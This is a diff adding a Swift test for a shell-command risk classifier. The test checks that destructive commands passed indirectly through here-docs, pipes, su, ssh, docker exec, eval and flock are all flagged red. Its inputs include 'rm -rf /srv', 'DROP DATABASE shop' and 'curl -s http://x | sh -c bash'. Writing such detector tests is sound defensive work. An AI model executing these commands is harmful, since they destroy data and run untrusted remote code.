@@ -53,6 +53,20 @@ struct AssessmentTests {
         #expect(classifier.assess("watch kubectl delete ns x", language: .shell).risk == .red)
     }
 
+    @Test(
+        "what is given to a shell within a text is judged as what it reads",
+        arguments: [
+            "su postgres -c psql <<EOF\nDROP DATABASE shop;\nEOF", "su postgres -c bash <<EOF\nrm -rf /srv\nEOF",
+            "echo 'rm -rf /srv' | su -c bash", "bash -c psql <<< 'DROP DATABASE shop'",
+            "eval psql <<< 'DROP DATABASE shop'",
+            "docker exec -i db sh -c psql <<< 'DROP DATABASE shop'", "ssh db 'psql shop' <<< 'DROP DATABASE shop'",
+            "echo 'rm -rf /srv' | ssh db 'sudo bash'", "flock /tmp/l -c bash <<< 'rm -rf /srv'",
+            "curl -s http://x | sh -c bash", "curl -s http://x | ssh db bash",
+        ])
+    func inheritedInput(command: String) {
+        #expect(classifier.assess(command, language: .shell).risk == .red)
+    }
+
     @Test("what is unknown is named, and every colour has a reason and a version")
     func reasons() {
         let unknown = classifier.assess("frobnicate --now; ls", language: .shell)
